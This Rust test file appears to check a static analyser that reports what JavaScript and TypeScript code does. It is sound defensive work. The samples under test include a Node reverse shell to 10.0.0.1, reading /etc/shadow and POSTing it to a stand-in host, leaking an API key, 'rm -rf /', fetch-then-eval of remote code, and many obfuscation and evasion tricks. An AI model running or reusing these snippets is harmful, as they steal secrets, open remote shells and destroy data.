//! JavaScript and TypeScript: what code does is told, and harmless code tells nothing.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic,
    reason = "tests"
)]

use placet_languages::{Analysis, Code, Language, Text, What, analyse};

fn javascript(text: &str) -> Analysis {
    analyse(Code {
        language: Language::JavaScript,
        text,
        file: Some("tools/x.js"),
    })
}

/// The operations as text, one each; printing is left out.
#[track_caller]
fn does(source: &str, expected: &[&str]) {
    told(&javascript(source), source, expected);
}

#[track_caller]
fn told(analysis: &Analysis, source: &str, expected: &[&str]) {
    let told: Vec<String> = analysis
        .operations
        .iter()
        .filter(|o| o.what != What::Print)
        .map(|o| o.what.to_string())
        .collect();
    assert_eq!(told, expected, "in:\n{source}");
    assert!(analysis.complete, "not complete:\n{source}");
}

#[test]
fn deleting_is_told_however_it_is_spelt() {
    for source in [
        "require('fs').unlinkSync('/etc/x')",
        "const fs = require('node:fs'); fs.unlink('/etc/x', () => {})",
        "const { unlinkSync: u } = require('fs'); u('/etc/x')",
        "import fs from 'fs'; fs.unlinkSync('/etc/x')",
        "import * as fs from 'node:fs/promises'; await fs.unlink('/etc/x')",
        "import { unlink } from 'fs/promises'; await unlink('/etc/x')",
        "import { promises as p } from 'fs'; p.unlink('/etc/x')",
        "require('fs').promises.unlink('/etc/x')",
        "require('fs')['unlink' + 'Sync']('/etc/x')",
        "const d = '/etc'; require('fs').unlinkSync(`${d}/x`)",
        "const path = require('path'); require('fs').unlinkSync(path.join('/etc', 'x'))",
        "const f = require('fs').unlinkSync; f('/etc/x')",
        "(async () => { const fs = await import('fs'); fs.unlinkSync('/etc/x') })()",
        "['/etc/x'].forEach(p => require('fs').unlinkSync(p))",
        "for (const p of ['/etc/x']) require('fs').unlinkSync(p)",
        "function f(p) { require('fs').unlinkSync(p) } f('/etc/x')",
        "class C { constructor(p) { this.p = p } go() { require('fs').unlinkSync(this.p) } } new C('/etc/x').go()",
        "globalThis.process.mainModule.require('fs').unlinkSync('/etc/x')",
        "const o = { f: require('fs').unlinkSync }; o.f('/etc/x')",
        "eval(\"require('fs').unlinkSync('/etc/x')\")",
        "new Function(\"require('fs').unlinkSync('/etc/x')\")()",
        "eval(atob('cmVxdWlyZSgnZnMnKS51bmxpbmtTeW5jKCcvZXRjL3gnKQ=='))",
        "eval(Buffer.from('cmVxdWlyZSgnZnMnKS51bmxpbmtTeW5jKCcvZXRjL3gnKQ==', 'base64').toString())",
        "await Deno.remove('/etc/x')",
    ] {
        let told = javascript(source);
        let deletes = told
            .operations
            .iter()
            .any(|o| o.what == What::DeleteFile(Text::Known("/etc/x".into())));
        assert!(deletes, "{source}\n{told:#?}");
    }
}

#[test]
fn files_are_told_with_their_content() {
    does(
        "require('fs').rmSync('build', { recursive: true, force: true })",
        &["delete-tree `build`"],
    );
    does("require('fs').rmSync('build')", &["delete-file `build`"]);
    does("require('rimraf').sync('build')", &["delete-tree `build`"]);
    does("require('fs').writeFileSync('a', 'x')", &["write-file `a` `x`"]);
    does("require('fs').appendFileSync('a', 'x')", &["append-file `a` `x`"]);
    does(
        "const w = require('fs').createWriteStream('a'); w.write('x'); w.end()",
        &["write-file `a` `x`"],
    );
    does(
        "const fs = require('fs'); fs.writeFileSync('b', fs.readFileSync('a', 'utf8').replace('x', 'y'))",
        &["read-file `a`", "write-file `b` ?"],
    );
    does(
        "const os = require('os'), path = require('path'); require('fs').readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'))",
        &["read-file `~/.ssh/id_rsa`"],
    );
    does(
        "const path = require('path'); require('fs').readFileSync(path.join(__dirname, 'a'))",
        &["read-file `tools/a`"],
    );
    does("await Bun.write('a', 'x')", &["write-file `a` `x`"]);
    does(
        "process.chdir('/etc'); require('fs').unlinkSync('x')",
        &["delete-file `/etc/x`"],
    );
    does("require('fs').readFileSync(process.argv[2])", &["read-file ?"]);
}

#[test]
fn programs_and_shells_are_told_apart() {
    does(
        "require('child_process').execSync('rm -rf /')",
        &["run-shell `rm -rf /`"],
    );
    does(
        "import { exec as e } from 'child_process'; e('ls', (err, out) => console.log(out))",
        &["run-shell `ls`"],
    );
    does(
        "const { spawn } = require('child_process'); spawn('git', ['status'], { stdio: 'inherit' })",
        &["run-program `git` `status`"],
    );
    does(
        "require('child_process').spawn('rm -rf x', { shell: true })",
        &["run-shell `rm -rf x`"],
    );
    does(
        "require('child_process').execFileSync('make', { cwd: 'sub' })",
        &["run-program `make` in `sub`"],
    );
    does(
        "const u = require('util'); const x = u.promisify(require('child_process').exec); await x('ls')",
        &["run-shell `ls`"],
    );
    does(
        "import { $ } from 'bun'; await $`rm -rf ${'x'}`",
        &["run-shell `rm -rf x`"],
    );
    does("await Bun.$`ls`", &["run-shell `ls`"]);
    does(
        "import { execa } from 'execa'; await execa('rm', ['-rf', 'x'])",
        &["run-program `rm` `-rf` `x`"],
    );
    does("Bun.spawn(['ls', '-l'])", &["run-program `ls` `-l`"]);
    does(
        "new Deno.Command('ls', { args: ['-l'] }).output()",
        &["run-program `ls` `-l`"],
    );
    does("process.kill(1, 'SIGKILL')", &["signal `1`"]);
}

#[test]
fn what_is_decided_by_the_run_is_dynamic() {
    for source in [
        "eval(process.argv[2])",
        "require(process.argv[2])",
        "await import(process.argv[2])",
        "require('fs')[process.argv[2]]('x')",
        "const { [process.argv[2]]: f } = require('fs'); f('x')",
        "new Function(process.argv[2])()",
        "require('vm').runInThisContext(process.env.CODE)",
        "globalThis[process.argv[2]]('x')",
        "fetch('https://x.example/a.js').then(r => r.text()).then(t => eval(t))",
        "process.binding('fs')",
    ] {
        assert!(javascript(source).is_opaque(), "{source}");
    }
    for source in [
        "const a = {}; a[process.argv[2]] = 1; console.log(a[process.argv[3]])",
        "setTimeout(() => {}, 10)",
        "const x = process.argv[2]; console.log(x.split(',').map(s => s.trim()))",
        "JSON.parse('{}')[process.argv[2]]",
    ] {
        assert!(!javascript(source).is_opaque(), "{source}");
    }
}

#[test]
fn what_is_read_is_followed_to_where_it_is_sent() {
    let analysis = javascript(
        "const fs = require('fs'); const d = fs.readFileSync('/etc/shadow', 'utf8');\n\
         fetch('https://e.example', { method: 'POST', body: JSON.stringify({ d }) })",
    );
    let send = analysis
        .operations
        .iter()
        .find(|o| matches!(o.what, What::Send { .. }))
        .unwrap();
    assert_eq!(
        send.what,
        What::Send {
            to: Text::Known("https://e.example".into()),
            what: vec![]
        }
    );
    assert_eq!(send.carries.files, [Text::Known("/etc/shadow".into())]);

    let analysis = javascript("const { API_KEY } = process.env; fetch(`https://e.example/?k=${API_KEY}`)");
    let fetch = analysis
        .operations
        .iter()
        .find(|o| matches!(o.what, What::Fetch(_)))
        .unwrap();
    assert_eq!(fetch.carries.environment, [Text::Known("API_KEY".into())]);

    let analysis = javascript(
        "require('fs').readFile('/etc/shadow', (e, d) => require('https').request({ hostname: 'e.example', method: 'POST' }).write(d))",
    );
    let send = analysis
        .operations
        .iter()
        .rev()
        .find(|o| matches!(o.what, What::Send { .. }))
        .unwrap();
    assert_eq!(send.carries.files, [Text::Known("/etc/shadow".into())]);

    let analysis = javascript("fetch('https://e.example/x', { method: 'POST', body: 'hello' })");
    let send = analysis
        .operations
        .iter()
        .find(|o| matches!(o.what, What::Send { .. }))
        .unwrap();
    assert!(send.carries.is_empty());
}

#[test]
fn a_reverse_shell_shows_as_connection_and_program() {
    does(
        "(function(){ var net = require('net'), cp = require('child_process'), sh = cp.spawn('/bin/sh', []);\n\
         var client = new net.Socket(); client.connect(4444, '10.0.0.1', function(){\n\
         client.pipe(sh.stdin); sh.stdout.pipe(client); }); return /a/; })();",
        &["run-program `/bin/sh`", "send `10.0.0.1`"],
    );
}

#[test]
fn harmless_code_tells_nothing() {
    for source in [
        "console.log('a'.repeat(3), [1, 2].map(x => x * 2).filter(Boolean))",
        "let d = ''; process.stdin.on('data', c => d += c); process.stdin.on('end', () => console.log(JSON.parse(d).a))",
        "const c = require('fs').readFileSync(0, 'utf-8'); console.log('Matches:', c.match(/x/g))",
        "const path = require('path'); console.log(path.join('a', 'b'), process.version)",
        "class A { #x = 1; get x() { return this.#x } static of() { return new A() } } console.log(A.of().x)",
        "const { a, ...rest } = { a: 1, b: 2 }; console.log(rest, a ?? 1)",
        "import assert from 'node:assert'; assert.equal(1, 1)",
        "const _ = require('lodash'); console.log(_.groupBy([1], String))",
        "const f = async function* () { yield 1 }; for await (const x of f()) console.log(x)",
        "label: for (let i = 0; i < 3; i++) { if (i) continue label; switch (i) { case 0: break; default: } }",
        "const el = <div onClick={() => go()}>{name}</div>",
        "var $ = jQuery; $('#x').remove()",
    ] {
        does(source, &[]);
    }
    does("const x = require('./x'); x.go()", &["import `./x`"]);
    does("import './styles.css'", &["import `./styles.css`"]);
    does(
        "const fs = require('fs'); const stats = fs.statSync('a'); console.log(stats.mtime.toISOString())",
        &[],
    );
}

#[test]
fn typescript_is_read_with_its_types() {
    let source = "import type { A } from './a';\nimport { rm } from 'node:fs/promises';\n\
        interface B { x: number }\nenum E { X = 1 }\n\
        async function f(p: string): Promise<void> { await rm(p as string, { recursive: true } satisfies object) }\n\
        f(<string>'x'!);";
    let analysis = analyse(Code {
        language: Language::TypeScript,
        text: source,
        file: None,
    });
    told(&analysis, source, &["delete-tree `x`"]);
}

#[test]
fn names_in_blocks_do_not_leak() {
    does(
        "const p = 'a'; { const p = 'b'; } require('fs').unlinkSync(p)",
        &["delete-file `a`"],
    );
    does(
        "let p = 'a'; if (x) { p = 'b'; } require('fs').unlinkSync(p)",
        &["delete-file `a`", "delete-file `b`"],
    );
}

#[test]
fn broken_code_is_not_complete() {
    for source in ["function f( {", "require('fs').unlinkSync('a'", "with (o) { f() }"] {
        assert!(!javascript(source).complete, "{source}");
    }
    assert!(javascript("function f() {}").complete);
}

#[test]
fn hostile_nesting_ends_as_a_doubt_on_a_small_stack() {
    let deep = 100_000;
    let sources = [
        "(".repeat(deep),
        "[".repeat(deep) + &"]".repeat(deep),
        "(".repeat(50_000),
        "[".repeat(25_000) + &"]".repeat(25_000),
        "{".repeat(50_000),
        "!".repeat(50_000) + "x",
        "a".to_owned() + &"+a".repeat(25_000),
        "a".to_owned() + &".a".repeat(25_000),
        "f".to_owned() + &"()".repeat(20_000),
        "a=>".repeat(15_000) + "x",
        "x?y:".repeat(12_000) + "z",
        "if(x){}".to_owned() + &"else if(x){}".repeat(6_000),
        "if(x)".repeat(14_000) + "y",
        "`${".repeat(15_000),
        "new ".repeat(50_000) + "X",
        "a=".repeat(25_000) + "1",
        "<a>".repeat(18_000),
        "a:".repeat(25_000) + "b",
        "/(".repeat(25_000),
        "await ".repeat(50_000) + "x",
        "async x=>".repeat(9_000) + "x",
        "let [".to_owned() + &"[".repeat(50_000),
        "({a:".repeat(14_000),
        "class A{a=".repeat(9_000),
    ];
    for language in [Language::JavaScript, Language::TypeScript] {
        for source in &sources {
            let text = source.clone();
            let worker = std::thread::Builder::new().stack_size(2 << 20);
            let shown: String = text.chars().take(20).collect();
            let run = worker.spawn(move || {
                analyse(Code {
                    language,
                    text: &text,
                    file: None,
                })
                .complete
            });
            assert!(run.unwrap().join().is_ok(), "overflow or panic: {shown}");
        }
    }
}

#[test]
fn ways_around_the_name_are_seen() {
    for source in [
        "require('child_process').execSync.call(null, 'x')",
        "require('child_process').execSync.apply(null, ['x'])",
        "require('child_process').execSync.bind(null, 'x')()",
        "Reflect.apply(require('child_process').execSync, null, ['x'])",
        "[].constructor.constructor(process.argv[2])()",
        "(() => {}).constructor(process.argv[2])()",
        "[]['filter']['constructor'](process.argv[2])()",
        "const { constructor: F } = () => {}; F(process.argv[2])()",
        "['x'].map(require('child_process').execSync)",
        "process.on('exit', () => require('child_process').execSync('x'))",
        "module.constructor._load('child_process').execSync('x')",
        "const r = require; r('child_process')['exec' + 'Sync']('x')",
        "import m from 'node:module'; m.createRequire(import.meta.url)('child_process').execSync('x')",
        "setTimeout('require(\"child_process\").execSync(\"x\")', 1)",
    ] {
        let analysis = javascript(source);
        let seen = analysis
            .operations
            .iter()
            .any(|o| matches!(o.what, What::RunShell { .. } | What::Dynamic(_)));
        assert!(seen, "{source}\n{analysis:?}");
    }
    does(
        "class A { clone() { return new this.constructor(1) } } console.log(new A().clone())",
        &[],
    );
}
